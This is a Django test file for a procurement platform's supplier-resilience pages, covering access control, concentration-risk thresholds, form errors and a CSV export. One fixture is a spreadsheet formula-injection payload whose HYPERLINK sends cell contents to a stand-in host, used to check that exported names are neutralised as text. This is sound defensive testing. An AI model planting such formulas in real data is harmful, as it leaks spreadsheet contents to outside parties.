"""The resilience team's home and concentration risk pages: what the team sees, what everyone
else does not (404), the form's errors, and the CSV opening names as text."""

import csv
import io
from datetime import timedelta
from decimal import Decimal

import pytest
from django.urls import reverse

from levelfield.accounts.models import Role
from levelfield.contracts.actions import records
from levelfield.core import clock
from levelfield.resilience import actions
from tests.support import testing

pytestmark = pytest.mark.django_db

HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"Click") Ltd'


@pytest.fixture
def team(client):
    person = testing.resilience_team_member()
    client.force_login(person)
    return person


def let_elsewhere(*, buyer, supplier, value, critical=False):
    admin = testing.member(buyer, Role.BUYER_ADMIN)
    today = clock.today_uk()
    contract = records.enter_contract(
        buyer=buyer,
        by=admin,
        title="Meals at home",
        supplier_identifier=supplier.supplier_profile.platform_identifier,
        value=Decimal(value),
        start_date=today - timedelta(days=30),
        end_date=today + timedelta(days=300),
        critical=critical,
    )
    return records.sign_let_elsewhere(contract=contract, by=admin)


@pytest.mark.parametrize("name", ["resilience:home", "resilience:concentration"])
def test_only_the_team_reaches_its_pages(client, name):
    url = reverse(name)
    assert client.get(url).status_code == 302  # signed out: to sign in
    supplier, supplier_user = testing.supplier_with_user()
    buyer = testing.buyer_org()
    others = (
        supplier_user,
        testing.member(buyer, Role.BUYER_ADMIN),
        testing.UserFactory(is_superuser=True, is_staff=True),  # a platform admin, not on the team
    )
    for person in others:
        client.force_login(person)
        assert client.get(url).status_code == 404, person
    client.force_login(testing.resilience_team_member())
    assert client.get(url).status_code == 200


def test_the_download_is_for_the_team_only(client):
    client.force_login(testing.supplier_with_user()[1])
    assert client.get(reverse("resilience:concentration_csv")).status_code == 404


def test_the_home_page_counts_what_needs_attention(client, team):
    buyer = testing.buyer_org("Avon Council")
    supplier = testing.supplier_org("Meals Ltd")
    let_elsewhere(buyer=buyer, supplier=supplier, value="100000", critical=True)
    admin = testing.UserFactory(is_superuser=True, is_staff=True)
    actions.mark_strategic(organisation=supplier, reason="Meals in four counties", by=admin)

    page = client.get(reverse("resilience:home")).content.decode()

    assert "Supplier resilience" in page
    assert "1 marked by the platform admin" in page
    assert "1 in force" in page and "None submitted" in page and "Meals Ltd" in page
    # One supplier holds the whole of Avon's market today.
    assert "1 supplier holds more than 25% of an authority" in page
    assert reverse("resilience:concentration") in page
    assert "0 not notified within 2 working days" in page
    assert "0 saved" in page and reverse("resilience:scenarios") in page


def test_the_concentration_page_lists_suppliers_above_the_share(client, team):
    buyer = testing.buyer_org("Avon Council")
    big, small = testing.supplier_org("Big Ltd"), testing.supplier_org("Small Ltd")
    let_elsewhere(buyer=buyer, supplier=big, value="800000")
    let_elsewhere(buyer=buyer, supplier=small, value="200000")

    default = client.get(reverse("resilience:concentration")).content.decode()
    lower = client.get(reverse("resilience:concentration"), {"threshold": "15"}).content.decode()
    none = client.get(reverse("resilience:concentration"), {"threshold": "90"}).content.decode()

    assert "Big Ltd" in default and "80.00%" in default and "Small Ltd" not in default
    assert "Suppliers holding more than 25% of a market on" in default
    assert 'name="threshold" type="text" value="25"' in default
    assert "Small Ltd" in lower and "20.00%" in lower
    assert lower.index("Big Ltd") < lower.index("Small Ltd")
    assert "No supplier holds more than 90%" in none


@pytest.mark.parametrize(
    "query, message",
    [
        ({"threshold": "abc"}, "Enter the share as a number, like 25"),
        ({"threshold": "100"}, "The share must be 0 or more and less than 100"),
        ({"threshold": "1.234"}, "The share can have at most 2 decimal places"),
        ({"as_of": "31/2/2026"}, "Enter the date as a real date, like 27/3/2026"),
    ],
)
def test_the_form_says_what_to_correct(client, team, query, message):
    response = client.get(reverse("resilience:concentration"), query)

    page = response.content.decode()
    assert response.status_code == 200
    assert "There is a problem" in page and message in page
    assert page.count(message) == 2  # in the summary and by the field
    field = "id_threshold" if "threshold" in query else "id_as_of"
    assert f'href="#{field}"' in page
    assert "<title>Error: " in page
    assert 'id="concentration"' not in page


def test_the_csv_lists_the_same_and_opens_names_as_text(client, team):
    buyer = testing.buyer_org("Avon Council")
    hostile = testing.supplier_org(HOSTILE)
    let_elsewhere(buyer=buyer, supplier=hostile, value="500000")

    response = client.get(reverse("resilience:concentration_csv"), {"threshold": "10"})

    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    assert "attachment" in response["Content-Disposition"]
    rows = list(csv.reader(io.StringIO(response.content.decode(), newline="")))
    assert rows[0][:3] == ["Authority", "CPV division", "Supplier"]
    assert rows[1] == [
        "Avon Council",
        "No CPV",
        "'" + HOSTILE,
        "1",
        "500000.00",
        "500000.00",
        "100.00",
    ]


def test_the_csv_of_a_wrong_form_is_the_page_saying_what_to_correct(client, team):
    response = client.get(reverse("resilience:concentration_csv"), {"threshold": "x"})

    assert response.status_code == 400
    assert "Enter the share as a number" in response.content.decode()
